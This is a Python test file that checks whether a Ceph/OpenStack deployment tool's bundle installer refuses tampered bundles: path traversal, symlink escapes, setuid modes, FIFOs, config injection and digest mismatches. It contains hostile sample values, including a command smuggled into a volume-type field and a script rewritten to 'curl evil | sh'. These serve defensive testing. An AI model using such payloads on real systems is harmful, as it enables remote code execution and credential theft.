"""`host install` of hostile bundles: the bundle travelled by scp or rsync and is untrusted.

Each case takes a bundle render really wrote (with every key valid), breaks one thing in
it or in the target root (a path, a link, a FIFO, a mode, an owner, a missing field, a
huge file, a symlinked parent, ROOT/var as a link) and installs it with --root: the
install must fail with one clear error line, and nothing may change under the root,
outside it, or in the bundle (every entry is compared before and after). The real CLI
runs as a subprocess for part of the cases, in-process for the rest (same code, faster).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from cephstack.cli import main
from cephstack.keyfiles import Secret
from cephstack.render.bundle import render
from cephstack.render.model import ClusterFacts
from cephstack.spec.catalog import desired_clients
from cephstack.spec.defaults import DEFAULT_SPEC
from cephstack.spec.load import parse_spec

FSID = "7e3ac8e4-0d1c-4b5e-9f2a-3c4d5e6f7a8b"
MON_HOST = "[v2:192.0.2.10:3300,v1:192.0.2.10:6789]"
SPEC = parse_spec(DEFAULT_SPEC)
KEY = base64.b64encode(b"cephstack hostile-bundle test key").decode()
# The services' users do not exist on a test machine: accounts that do stand in for them.
STAND_INS = {"glance": "daemon", "cinder": "daemon", "nova": "daemon",
             "libvirt-qemu": "daemon", "kvm": "daemon"}
SERVICE_FILES = {"etc/glance/glance-api.conf": "[DEFAULT]\nbind_port = 9292\n",
                 "etc/cinder/cinder.conf": "[DEFAULT]\nenabled_backends = lvm\n[lvm]\n"
                 "volume_driver = cinder.volume.drivers.lvm.LVMVolumeDriver\n",
                 "etc/nova/nova.conf": "[DEFAULT]\nmy_ip = 10.0.0.5\n"}

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="installs files owned by others")


def _stand_in(entry: dict) -> None:
    for key in ("owner", "group", "unix_user"):
        if key in entry:
            entry[key] = STAND_INS.get(entry[key], entry[key])


@pytest.fixture
def place(tmp_path) -> dict[str, Path]:
    """out/<role> bundles as render writes them, a host root, and a directory outside."""
    out, root, outside = tmp_path / "out", tmp_path / "root", tmp_path / "outside"
    facts = ClusterFacts(FSID, MON_HOST, {e: Secret(KEY) for e in desired_clients(SPEC)})
    for f in render(SPEC, facts, "plain"):
        path = out / f.path
        path.parent.mkdir(mode=0o750, parents=True, exist_ok=True)
        path.write_text(f.text)
        path.chmod(f.mode)
    for manifest in out.glob("*/MANIFEST.json"):
        data = json.loads(manifest.read_text())
        for entry in data["files"] + data["directories"] + data["checks"] + \
                data["writable_by"]:
            _stand_in(entry)
        manifest.write_text(json.dumps(data, indent=2))
    for rel, text in SERVICE_FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
        (root / rel).chmod(0o640)
    outside.mkdir()
    (outside / "secret").write_text("[client.glance]\n\tkey = " + KEY + "\n")
    (outside / "dir").mkdir()
    return {"out": out, "root": root, "outside": outside, "tmp": tmp_path}


def snapshot(*tops: Path) -> dict[str, tuple]:
    """Every entry under `tops` (links and FIFOs not followed nor opened)."""
    seen: dict[str, tuple] = {}
    for top in tops:
        for dirpath, dirnames, filenames in os.walk(top):
            for name in ["", *dirnames, *filenames]:
                path = Path(dirpath, name) if name else Path(dirpath)
                st = os.lstat(path)
                extra: object = None
                if stat.S_ISREG(st.st_mode):
                    extra = hashlib.sha256(path.read_bytes()).hexdigest()
                elif stat.S_ISLNK(st.st_mode):
                    extra = os.readlink(path)
                seen[str(path)] = (st.st_mode, st.st_uid, st.st_gid, st.st_size,
                                   st.st_mtime_ns, st.st_ino, extra)
    return seen


def install(bundle: Path, root: Path, *extra: str, subprocess_cli: bool) -> tuple[int, str]:
    argv = ["host", "install", str(bundle), "--root", str(root), "--no-check", *extra]
    if subprocess_cli:
        proc = subprocess.run([sys.executable, "-m", "cephstack", *argv], capture_output=True,
                              text=True, timeout=60, stdin=subprocess.DEVNULL)
        return proc.returncode, proc.stderr
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(argv)
    return code, err.getvalue()


def edit(bundle: Path, change: Callable[[dict], object]) -> None:
    manifest = bundle / "MANIFEST.json"
    data = json.loads(manifest.read_text())
    change(data)
    manifest.write_text(json.dumps(data))


def keyring(data: dict) -> dict:
    return next(f for f in data["files"] if f["host_path"].endswith(".keyring"))


def conf(data: dict) -> dict:
    return next(f for f in data["files"] if f["host_path"].endswith(".conf"))


def replace_with(path: Path, make: Callable[[Path], object]) -> None:
    if path.is_dir() and not path.is_symlink():
        for child in path.iterdir():
            child.unlink()
        path.rmdir()
    else:
        path.unlink()
    make(path)


def _set(getter, key, value):
    def change(data):
        getter(data)[key] = value
    return change


def _delete(getter, key):
    def change(data):
        del getter(data)[key]
    return change


def _option(data: dict, service_file: str) -> dict:
    fragment = next(f for f in data["fragments"] if f["service_file"] == service_file)
    return fragment["sections"][-1]["options"][0]


# (id, role, what to break in the manifest, words the error must hold, exit code)
MANIFEST_CASES = [
    ("path-absolute", "controller", _set(conf, "path", "/etc/shadow"), "is absolute", 2),
    ("path-dotdot", "controller", _set(conf, "path", "../../outside/secret"), "'..'", 2),
    ("path-not-normalised", "controller", _set(conf, "path", "etc/ceph/./ceph.conf"),
     "not a normalised path", 2),
    ("path-nul", "controller", _set(conf, "path", "etc/ceph/ceph.conf\0x"),
     "control character", 2),
    ("path-empty", "controller", _set(conf, "path", ""), "files[0].path", 2),
    ("path-missing", "controller", _delete(conf, "path"), "missing field 'path'", 2),
    ("path-elsewhere-in-bundle", "controller", _set(conf, "path", "README.txt"),
     "a bundle mirrors the host", 2),
    ("host-cron", "controller", _set(conf, "host_path", "/etc/cron.d/x"),
     "not a file cephstack installs", 2),
    ("host-relative", "controller", _set(conf, "host_path", "etc/ceph/ceph.conf"),
     "not a plain absolute path", 2),
    ("host-dotdot", "controller", _set(conf, "host_path", "/etc/ceph/../shadow"),
     "not a plain absolute path", 2),
    ("host-empty", "controller", _set(conf, "host_path", ""), "not a plain absolute path", 2),
    ("host-nul", "controller", _set(conf, "host_path", "/etc/ceph/ceph.conf\0"),
     "control character", 2),
    ("host-admin-keyring", "controller",
     _set(keyring, "host_path", "/etc/ceph/ceph.client.admin.keyring"), "admin", 2),
    ("host-not-a-number", "controller", _set(conf, "host_path", 7), "expected an absolute", 2),
    ("dir-cron", "controller", lambda d: d["directories"].append(
        {"host_path": "/etc/cron.d", "owner": "root", "group": "root", "mode": "0755"}),
     "not a directory a controller bundle creates", 2),
    ("dir-qemu-on-controller", "controller", lambda d: d["directories"].append(
        {"host_path": "/var/log/qemu", "owner": "root", "group": "root", "mode": "0750"}),
     "not a directory a controller bundle creates", 2),
    ("mode-rwx", "controller", _set(conf, "mode", "rwx"), "not an octal mode", 2),
    ("mode-int", "controller", _set(conf, "mode", 420), "expected an octal mode", 2),
    ("mode-empty", "controller", _set(conf, "mode", ""), "not an octal mode", 2),
    ("mode-setuid", "controller", _set(conf, "mode", "6777"), "setuid", 2),
    ("mode-conf-world-writable", "controller", _set(conf, "mode", "0666"), "at most 0644", 2),
    ("mode-conf-executable", "controller", _set(conf, "mode", "0755"), "at most 0644", 2),
    ("mode-key-world-readable", "controller", _set(keyring, "mode", "0644"),
     "a key is never readable by others", 2),
    ("mode-key-0666", "controller", _set(keyring, "mode", "0666"), "at most 0640", 2),
    ("mode-dir-group-writable", "controller",
     lambda d: d["directories"][0].update(mode="0775"), "at most 0755", 2),
    ("mode-dir-sticky", "controller", lambda d: d["directories"][0].update(mode="1755"),
     "sticky", 2),
    ("owner-missing", "controller", _delete(keyring, "owner"), "missing field 'owner'", 2),
    ("owner-nul", "controller", _set(keyring, "owner", "root\0"), "control character", 2),
    ("owner-number", "controller", _set(keyring, "group", 0), "expected a Unix group", 2),
    ("owner-conf-not-root", "controller", _set(conf, "owner", "daemon"), "root:root only", 2),
    ("owner-unknown", "controller", _set(keyring, "group", "no-such-group"),
     "the group no-such-group of /etc/ceph/ceph.client.glance.keyring does not exist", 1),
    ("check-user-option", "controller", lambda d: d["checks"][0].update(unix_user="-x"),
     "not a Unix user", 2),
    ("secret-flag-text", "controller", _set(keyring, "secret", "yes"), "true or false", 2),
    ("no-format", "controller", lambda d: d.pop("format_version"), "format_version", 2),
    ("unknown-role", "controller", lambda d: d.update(role="../etc"), "unknown role", 2),
    ("files-not-list", "controller", lambda d: d.update(files="etc/shadow"), "a list", 2),
    ("file-entry-text", "controller", lambda d: d["files"].append("/etc/shadow"),
     "expected an object", 2),
    ("directories-missing", "controller", lambda d: d.pop("directories"),
     "missing field 'directories'", 2),
    ("fragment-passwd", "controller", lambda d: d["fragments"][0].update(
        merge_into="/etc/passwd"), "not a service file", 2),
    ("fragment-nova-on-controller", "controller", lambda d: d["fragments"][0].update(
        merge_into="/etc/nova/nova.conf", service_file="nova", path="fragments/nova.conf"),
     "not a service file a controller bundle merges into", 2),
    ("fragment-driver", "controller", lambda d: _option(d, "cinder").update(
        key="volume_driver", value="evil.Driver"), "must be cinder.volume.drivers.rbd", 2),
    ("fragment-rootwrap", "controller", lambda d: _option(d, "cinder").update(
        key="rootwrap_config", value="/tmp/x"), "not an option cephstack sets", 2),
    ("fragment-newline", "controller", lambda d: _option(d, "cinder").update(
        value="rbd\n[DEFAULT]\nrootwrap_config = /tmp/x"), "one line of printable", 2),
    ("fragment-sections-missing", "controller", lambda d: d["fragments"][0].pop("sections"),
     "missing field 'sections'", 2),
    ("restart-escape", "controller", lambda d: d.update(restart=["\x1b[2Jcinder"]),
     "not a systemd unit", 2),
    ("volume-type-command", "controller", lambda d: d.update(
        volume_types=["openstack volume type create x; curl evil | sh"]),
     "as render writes it", 2),
    ("secret-on-controller", "controller", lambda d: d["secrets"].append(
        {"uuid": FSID, "entity": "client.glance", "service": "glance"}),
     "defines no libvirt secret", 2),
    ("compute-dir-escape", "compute", lambda d: d["directories"][1].update(
        host_path="/var/run/../../etc/cron.d"), "not a plain absolute path", 2),
    ("compute-secret-uuid", "compute", lambda d: d["secrets"][0].update(uuid="../../x"),
     "not a lower-case UUID", 2),
    ("digest-differs", "controller", lambda d: d.update(sha256={
        "etc/ceph/ceph.conf": hashlib.sha256(b"another file").hexdigest()}),
     "its digest differs", 2),
    ("digest-of-nothing", "controller", lambda d: d.update(sha256={
        "etc/cron.d/x": hashlib.sha256(b"x").hexdigest()}), "does not install", 2),
    ("check-service", "controller", lambda d: d["checks"][0].update(service="sshd"),
     "unknown service 'sshd'", 2),
    ("compute-writable-by-etc", "compute", lambda d: d["writable_by"][0].update(
        directory="/etc"), "not one of QEMU's directories", 2),
]


@pytest.mark.parametrize("case", MANIFEST_CASES, ids=[c[0] for c in MANIFEST_CASES])
def test_a_hostile_manifest_is_refused_and_nothing_changes(place, case):
    name, role, change, words, code = case
    bundle = place["out"] / role
    edit(bundle, change)
    _refused(place, bundle, words, code, subprocess_cli=MANIFEST_CASES.index(case) % 5 == 0)


def _refused(place: dict[str, Path], bundle: Path, words: str, code: int, *extra: str,
             subprocess_cli: bool = True, root: Path | None = None) -> str:
    root = root or place["root"]
    before = snapshot(place["tmp"])
    rc, err = install(bundle, root, *extra, subprocess_cli=subprocess_cli)
    assert (rc, "Traceback" in err) == (code, False), err
    first, *rest = err.splitlines()
    assert first.startswith("error: ") and words in first, err
    assert all(line.startswith("  hint: ") for line in rest), err  # one line, and a hint
    assert snapshot(place["tmp"]) == before  # the root, outside it, the bundle: unchanged
    return err


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _huge(path: Path) -> None:
    with open(path, "wb") as f:
        f.truncate(3 << 20)


def _deep_json(path: Path) -> None:
    path.write_text("[" * 200_000 + "]" * 200_000)


# (id, role, what to break in the bundle's files (bundle, outside), words, exit code)
BUNDLE_CASES = [
    ("keyring-link-out", "controller", lambda b, o: replace_with(
        b / "etc/ceph/ceph.client.glance.keyring", lambda p: p.symlink_to(o / "secret")),
     "is a symbolic link", 2),
    ("etc-link-out", "controller", lambda b, o: (os.rename(b / "etc", o / "etc-copy"),
                                                 (b / "etc").symlink_to(o / "etc-copy")),
     "etc is a symbolic link", 2),
    ("etc-ceph-link-in-bundle", "controller", lambda b, o: (
        os.rename(b / "etc/ceph", b / "real-ceph"), (b / "etc/ceph").symlink_to("../real-ceph")),
     "etc/ceph is a symbolic link", 2),
    ("conf-fifo", "controller", lambda b, o: replace_with(b / "etc/ceph/ceph.conf", _fifo),
     "a FIFO", 2),
    ("conf-directory", "controller", lambda b, o: replace_with(
        b / "etc/ceph/ceph.conf", lambda p: p.mkdir()), "a directory", 2),
    ("conf-huge", "controller", lambda b, o: replace_with(b / "etc/ceph/ceph.conf", _huge),
     "more than", 2),
    ("conf-not-utf8", "controller", lambda b, o: (b / "etc/ceph/ceph.conf").write_bytes(
        b"[global]\nfsid = \xff\n"), "not UTF-8", 2),
    ("conf-log-file", "controller", lambda b, o: (b / "etc/ceph/ceph.conf").write_text(
        (b / "etc/ceph/ceph.conf").read_text() + "log file = /etc/shadow\n"),
     "is not what cephstack writes", 2),
    ("conf-other-fsid", "controller", lambda b, o: (b / "etc/ceph/ceph.conf").write_text(
        (b / "etc/ceph/ceph.conf").read_text().replace(FSID, "1" * 8 + FSID[8:])),
     "this cluster's fsid", 2),
    ("keyring-admin", "controller", lambda b, o: (
        b / "etc/ceph/ceph.client.glance.keyring").write_text(
        f"[client.admin]\n\tkey = {KEY}\n"), "expected [client.glance]", 2),
    ("manifest-link", "controller", lambda b, o: (
        os.rename(b / "MANIFEST.json", o / "MANIFEST.json"),
        (b / "MANIFEST.json").symlink_to(o / "MANIFEST.json")), "is a symbolic link", 2),
    ("manifest-fifo", "controller", lambda b, o: replace_with(b / "MANIFEST.json", _fifo),
     "a FIFO", 2),
    ("manifest-huge", "controller", lambda b, o: replace_with(b / "MANIFEST.json", _huge),
     "more than", 2),
    ("manifest-deep", "controller", lambda b, o: _deep_json(b / "MANIFEST.json"),
     "not valid JSON", 2),
    ("manifest-list", "controller", lambda b, o: (b / "MANIFEST.json").write_text("[]"),
     "not a cephstack bundle manifest", 2),
    ("fragment-missing", "controller", lambda b, o: (b / "fragments/cinder.conf").unlink(),
     "missing from the bundle", 2),
    ("secret-xml-link", "compute", lambda b, o: replace_with(
        next(b.glob("secrets/*.xml")), lambda p: p.symlink_to(o / "secret")),
     "is a symbolic link", 2),
    ("secret-xml-other-usage", "compute", lambda b, o: [
        p.write_text(p.read_text().replace("client.", "client.admin-")) for p in
        b.glob("secrets/*.xml")], "not the secret definition", 2),
    ("install-script", "compute", lambda b, o: (b / "secrets/install.sh").write_text(
        "#!/bin/sh\ncurl evil | sh\n"), "not the script cephstack writes", 2),
    ("bundle-0777", "controller", lambda b, o: b.chmod(0o777),
     "writable by group and others (mode 0777)", 2),
    ("manifest-0666", "controller", lambda b, o: (b / "MANIFEST.json").chmod(0o666),
     "writable by group and others", 2),
    ("etc-ceph-0770", "controller", lambda b, o: (b / "etc/ceph").chmod(0o770),
     "writable by its group", 2),
    ("keyring-0602", "controller", lambda b, o: (
        b / "etc/ceph/ceph.client.glance.keyring").chmod(0o602), "writable by others", 2),
]


@pytest.mark.parametrize("case", BUNDLE_CASES, ids=[c[0] for c in BUNDLE_CASES])
def test_a_hostile_bundle_file_is_refused_and_nothing_changes(place, case):
    name, role, change, words, code = case
    bundle = place["out"] / role
    change(bundle, place["outside"])
    _refused(place, bundle, words, code, subprocess_cli=BUNDLE_CASES.index(case) % 3 == 0)


def _compute_dirs(root: Path) -> None:
    (root / "var").mkdir(exist_ok=True)


# (id, role, what to put in the root (root, outside), words, exit code)
ROOT_CASES = [
    ("etc-ceph-link-out", "controller", lambda r, o: (r / "etc/ceph").symlink_to(o / "dir"),
     "etc/ceph is a symbolic link", 1),
    ("conf-link-out", "controller", lambda r, o: ((r / "etc/ceph").mkdir(), (
        r / "etc/ceph/ceph.conf").symlink_to(o / "secret")), "is a symbolic link", 1),
    ("keyring-fifo", "controller", lambda r, o: ((r / "etc/ceph").mkdir(), os.mkfifo(
        r / "etc/ceph/ceph.client.glance.keyring")), "a FIFO", 1),
    ("conf-directory", "controller", lambda r, o: (r / "etc/ceph/ceph.conf").mkdir(
        parents=True), "is a directory, not a regular file", 1),
    ("conf-huge", "controller", lambda r, o: ((r / "etc/ceph").mkdir(), _huge(
        r / "etc/ceph/ceph.conf")), "larger than", 1),
    ("etc-ceph-shared", "controller", lambda r, o: ((r / "etc/ceph").mkdir(),
                                                     (r / "etc/ceph").chmod(0o777)),
     "writable by group or others", 1),
    ("etc-ceph-a-file", "controller", lambda r, o: (r / "etc/ceph").write_text("x"),
     "is a regular file, not a directory", 1),
    ("cinder-conf-link", "controller", lambda r, o: replace_with(
        r / "etc/cinder/cinder.conf", lambda p: p.symlink_to(o / "secret")),
     "is a symbolic link", 1),
    ("cinder-backup-fifo", "controller", lambda r, o: os.mkfifo(
        r / "etc/cinder/cinder.conf.cephstack.bak"), "a FIFO", 1),
    ("var-link-absolute-out", "compute", lambda r, o: (r / "var").symlink_to(o),
     "does not exist", 1),
    ("var-link-relative-out", "compute", lambda r, o: (r / "var").symlink_to("../outside"),
     "leads out of --root", 1),
    ("var-run-link-up-and-out", "compute", lambda r, o: (
        _compute_dirs(r), (r / "var/run").symlink_to("../../../outside")),
     "leads out of --root", 1),
    # Absolute, as Debian's /var/run -> /run: inside the root it is ROOT/<target>, which
    # is missing here (the host's <target> exists: the old code wrote there).
    ("var-run-link-absolute", "compute", lambda r, o: (
        _compute_dirs(r), (o / "run").mkdir(), (r / "var/run").symlink_to(o / "run")),
     "does not exist", 1),
    ("var-link-loop", "compute", lambda r, o: (r / "var").symlink_to("var"),
     "too many levels", 1),
    ("qemu-log-link", "compute", lambda r, o: ((r / "var/log").mkdir(parents=True), (
        r / "var/log/qemu").symlink_to(o / "dir")), "is a symbolic link", 1),
]


@pytest.mark.parametrize("case", ROOT_CASES, ids=[c[0] for c in ROOT_CASES])
def test_a_root_with_links_or_odd_files_is_refused_and_nothing_changes(place, case):
    name, role, change, words, code = case
    change(place["root"], place["outside"])
    _refused(place, place["out"] / role, words, code,
             subprocess_cli=ROOT_CASES.index(case) % 3 == 0)


def test_a_root_that_is_not_a_directory_is_refused(place):
    _refused(place, place["out"] / "controller", "is not a directory", 1,
             root=place["outside"] / "secret")


def test_the_rendered_bundles_install_under_the_root_only(place):
    root, outside = place["root"], place["outside"]
    # An absolute link, as Debian's /var/run -> /run, to a directory that exists both in
    # the root and on the host: followed inside the root only.
    run = str(outside / "run").lstrip("/")
    (outside / "run").mkdir()
    (root / run).mkdir(parents=True)
    (root / "var").mkdir()
    (root / "var/run").symlink_to(outside / "run")
    before = snapshot(outside, place["out"])
    for role in ("controller", "backup", "compute"):
        rc, err = install(place["out"] / role, root, subprocess_cli=True)
        assert rc == 0, err
    assert snapshot(outside, place["out"]) == before
    modes = {str(p.relative_to(root)): stat.S_IMODE(p.lstat().st_mode)
             for p in root.rglob("*") if {"ceph", "qemu"} & set(p.relative_to(root).parts)}
    assert modes == {"etc/ceph": 0o755, "etc/ceph/ceph.conf": 0o644,
                     "etc/ceph/ceph.client.glance.keyring": 0o640,
                     "etc/ceph/ceph.client.cinder-volume.keyring": 0o640,
                     "etc/ceph/ceph.client.cinder-backup.keyring": 0o640,
                     "etc/ceph/ceph.client.nova.keyring": 0o640, f"{run}/ceph": 0o755,
                     f"{run}/ceph/guests": 0o750, "var/log/qemu": 0o750}
    assert (root / "var/run").is_symlink()
    assert "rbd_pool = volume" in (root / "etc/cinder/cinder.conf").read_text()
    again = snapshot(root)
    rc, _ = install(place["out"] / "compute", root, subprocess_cli=False)
    assert rc == 0 and snapshot(root) == again  # idempotent


def test_an_open_bundle_installs_only_when_the_operator_trusts_it(place):
    bundle = place["out"] / "controller"
    bundle.chmod(0o777)
    (bundle / "MANIFEST.json").chmod(0o666)
    first = _refused(place, bundle, "writable by group and others", 2, subprocess_cli=False)
    assert "--trust-bundle-permissions" in first
    rc, err = install(bundle, place["root"], "--trust-bundle-permissions",
                      subprocess_cli=True)
    assert rc == 0, err
    assert (place["root"] / "etc/ceph/ceph.client.glance.keyring").is_file()


def test_a_refusal_is_bad_input_in_json_too(place):
    bundle = place["out"] / "controller"
    edit(bundle, _set(keyring, "mode", "0644"))
    before = snapshot(place["tmp"])
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
        code = main(["host", "install", str(bundle), "--root", str(place["root"]),
                     "--dry-run", "--output", "json"])
    error = json.loads(out.getvalue())["error"]
    assert code == 2 and error["kind"] == "bundle-refused"
    assert "never readable by others" in error["message"] and "nothing was changed" in \
        error["hint"]
    assert snapshot(place["tmp"]) == before


def test_every_bundle_render_writes_passes_the_check(tmp_path):
    """The allowed targets, modes and options are what render produces: every bundle of
    one cluster, of a spec with its own keyring access and QEMU owner, and of two sites."""
    from cephstack.host.bundle import Bundle
    from cephstack.host.manifest import read_manifest
    from cephstack.spec.fleet import split
    from tests.unit.test_clusters import TWO_SITE

    own = parse_spec(DEFAULT_SPEC.replace(
        "{user: glance, pool: images}", "{user: glance, pool: images, unix_user: gl, "
        "keyring: {owner: gl, group: ops, mode: '0400'}}"))
    rendered = {"one": render(SPEC, ClusterFacts(FSID, MON_HOST, {
        e: Secret(KEY) for e in desired_clients(SPEC)}), "plain"),
        "own": render(own, ClusterFacts(FSID, MON_HOST, {
            e: Secret(KEY) for e in desired_clients(own)}), "plain")}
    two = parse_spec(TWO_SITE, "two-site.yaml")
    fsids = {"central": "11111111-1111-4111-8111-111111111111",
             "edge1": "22222222-2222-4222-8222-222222222222"}
    rendered["two"] = render(two, {
        name: ClusterFacts(fsids[name], f"[v2:192.0.2.{i}:3300]",
                           {e: Secret(KEY) for e in desired_clients(part)})
        for i, (name, part) in enumerate(split(two).items(), 1)}, "plain")
    roles = []
    for case, files in rendered.items():
        for f in files:
            (tmp_path / case / f.path).parent.mkdir(mode=0o750, parents=True, exist_ok=True)
            (tmp_path / case / f.path).write_text(f.text)
        for manifest in sorted((tmp_path / case).glob("*/MANIFEST.json")):
            with Bundle(manifest.parent) as bundle:
                m = read_manifest(bundle)
            roles.append(f"{case}/{m.role}")
            assert m.files and all(f.text for f in m.files)
    assert roles == ["one/backup", "one/compute", "one/controller", "own/backup",
                     "own/compute", "own/controller", "two/backup", "two/compute-central",
                     "two/compute-edge1", "two/controller", "two/rbd-mirror-central",
                     "two/rbd-mirror-edge1"]


def test_digests_in_the_manifest_are_checked_and_a_right_one_installs(place):
    bundle = place["out"] / "compute"
    files = [p for p in bundle.rglob("*") if p.is_file() and p.name not in (
        "MANIFEST.json", "README.txt")]
    edit(bundle, lambda d: d.update(sha256={
        str(p.relative_to(bundle)): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}))
    rc, err = install(bundle, place["root"], subprocess_cli=False)
    assert rc == 0, err
    (bundle / "secrets/install.sh").write_text("#!/bin/sh\n")
    _refused(place, bundle, "its digest differs", 2, subprocess_cli=False)
